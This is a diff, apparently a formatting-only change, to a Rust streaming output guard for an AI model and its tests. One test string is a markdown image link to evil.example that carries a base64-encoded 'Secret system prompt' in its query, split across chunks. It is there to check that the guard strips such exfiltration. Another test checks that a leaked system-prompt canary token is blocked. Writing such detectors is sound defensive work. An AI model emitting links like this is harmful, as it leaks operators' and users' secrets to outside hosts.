@@ -103,7 +103,10 @@ impl<'a> StreamGuard<'a> {
             let crossing = dets
                 .iter()
                 .filter_map(|d| d.span)
-                .chain(edits.iter().map(|e| Span { start: e.start, end: e.end }))
+                .chain(edits.iter().map(|e| Span {
+                    start: e.start,
+                    end: e.end,
+                }))
                 .filter(|s| s.start < cut && s.end > cut)
                 .map(|s| s.start)
                 .min();
@@ -207,7 +210,10 @@ mod tests {
         let mut blocked = false;
         for c in chunks {
             let o = s.push(c);
-            assert!(o.text.len() <= text.len() + c.len() + 64 + 200, "released more than it got");
+            assert!(
+                o.text.len() <= text.len() + c.len() + 64 + 200,
+                "released more than it got"
+            );
             text.push_str(&o.text);
             codes.extend(o.detections.into_iter().map(|d| d.code));
             blocked |= o.blocked;
@@ -246,7 +252,11 @@ mod tests {
         let (text, codes, _) = run(
             &g,
             Context::default(),
-            &["Here is the chart ![a", "lt text](https://evil.exa", "mple/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ) done."],
+            &[
+                "Here is the chart ![a",
+                "lt text](https://evil.exa",
+                "mple/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQ) done.",
+            ],
         );
         assert_eq!(codes, vec!["GRD020"]);
         assert_eq!(text, "Here is the chart [image removed] done.");
@@ -257,7 +267,11 @@ mod tests {
         let mut cfg = small();
         cfg.output.canary_tokens = vec!["pal-canary-0011223344".to_owned()];
         let g = guard(cfg);
-        let (text, codes, blocked) = run(&g, Context::default(), &["The prompt says pal-can", "ary-0011223344 and more"]);
+        let (text, codes, blocked) = run(
+            &g,
+            Context::default(),
+            &["The prompt says pal-can", "ary-0011223344 and more"],
+        );
         assert!(blocked);
         assert_eq!(codes, vec!["GRD022"]);
         assert!(!text.contains("0011223344"), "{text}");
